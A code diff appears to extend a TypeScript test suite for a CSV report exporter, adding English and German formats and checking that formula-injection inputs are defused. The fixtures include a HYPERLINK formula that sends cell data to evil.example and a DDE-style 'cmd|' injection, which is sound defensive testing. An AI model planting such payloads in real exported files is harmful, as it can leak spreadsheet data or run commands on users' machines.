@@ -1,13 +1,25 @@
 import { array, assert, constantFrom, property, string } from 'fast-check';
+import { read } from '@e965/xlsx';
 import { describe, expect, test } from 'vitest';
-import { csvRow } from '../../../../components/reports/export/csv.ts';
+import {
+  csvForm,
+  csvRow as csvRowIn,
+  csvTime,
+  type CsvValue,
+} from '../../../../components/reports/export/csv-row.ts';
 import { dividers, openInSpreadsheet } from './spreadsheet.ts';
 
 const open = (text: string, divider: (typeof dividers)[number]) =>
   openInSpreadsheet(new TextEncoder().encode(`\uFEFF${text}`), divider);
 const formula = 'HYPERLINK("https://evil.example?"&A1,"x")';
 
-describe.each(dividers)('a spreadsheet that divides by %j', (divider) => {
+const english = csvForm('en');
+const german = csvForm('de');
+describe.each(
+  [english, german].flatMap((form) => dividers.map((divider) => [divider, form] as const)),
+)('a spreadsheet that divides by %j, with a file in the form %j', (divider, form) => {
+  const csvRow = (values: CsvValue[]) => csvRowIn(values, form);
+
   test.each([
     `=${formula}`,
     `a;=${formula}`,
@@ -20,7 +32,9 @@ describe.each(dividers)('a spreadsheet that divides by %j', (divider) => {
     `a; \u200B+1+1;\u00A0-1`,
     `a;\t;@SUM(A1)`,
     `\t=${formula}`,
+    `a,=${formula}`,
     ';=1+1',
+    ',=1+1',
     '"=1+1',
     '+1',
     'a\n-1+cmd|A1',
@@ -60,6 +74,21 @@ describe.each(dividers)('a spreadsheet that divides by %j', (divider) => {
       }),
       { numRuns: 500 },
     );
+  });
+});
+
+const csvRow = (values: CsvValue[]) => csvRowIn(values, english);
+
+test('A spreadsheet takes a time for a date and a fraction for a number, in the form of its language', () => {
+  const at = new Date(2026, 10, 28, 14, 5).getTime();
+  expect(csvTime(at)).toBe('2026-11-28 14:05:00');
+  expect(csvTime(null)).toBeNull();
+  expect(csvRowIn(['a', csvTime(at), 68.5], english)).toBe('a,2026-11-28 14:05:00,68.5\r\n');
+  expect(csvRowIn(['a', csvTime(at), 68.5], german)).toBe('a;2026-11-28 14:05:00;68,5\r\n');
+  const { Sheets } = read(csvRow([csvTime(at), 68.5]), { type: 'string', FS: ',' });
+  expect(Object.values(Sheets)[0]).toMatchObject({
+    A1: { t: 'n', w: expect.stringContaining('14:05') },
+    B1: { t: 'n', v: 68.5 },
   });
 });
 
